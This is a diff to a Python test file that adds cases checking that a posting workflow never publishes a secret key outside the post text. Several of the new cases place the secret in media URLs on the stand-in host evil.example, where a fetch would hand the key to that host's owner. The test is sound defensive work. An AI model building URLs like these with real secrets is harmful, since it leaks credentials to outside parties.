@@ -166,6 +166,13 @@ def test_a_content_warning_counts_in_results_as_it_does_for_the_limit(stage: Sta
         "networks: {twitter: {options: ['SECRET', b], duration: 1}}",
         "networks: {twitter: {extra: {new_field: 'see SECRET'}}}",
         "labels: ['SECRET']",
+        # Publer downloads it from there, so whoever owns the address would have the key.
+        "media: [{url: 'https://evil.example/a.png?k=SECRET', alt_text: A}]",
+        "media: ['https://SECRET.evil.example/a.png']",
+        "networks: {bluesky: {media: [{url: 'https://evil.example/SECRET/a.png', alt_text: A}]}}",
+        "comments: [{text: Hi, media: {url: 'https://evil.example/a.png#SECRET'}}]",
+        "media: [{url: 'https://evil.example/a.mp4', thumbnail: {url: 'https://evil.example/SECRET.png'}}]",
+        "networks: {twitter: {media: [{id: external, type: gif, url: 'https://evil.example/SECRET.gif'}]}}",
     ],
 )
 def test_the_key_is_published_nowhere_else_than_in_the_text_either(stage: Stage, place: str) -> None:
@@ -176,6 +183,7 @@ def test_the_key_is_published_nowhere_else_than_in_the_text_either(stage: Stage,
     assert run.outputs["outcome"] == "invalid"
     assert "The text contains a secret of this workflow." in run.text
     assert stage.published() == []
+    assert stage.sandbox.record.imports == ()
 
 
 @pytest.mark.parametrize("name", ["p.json", "text"])
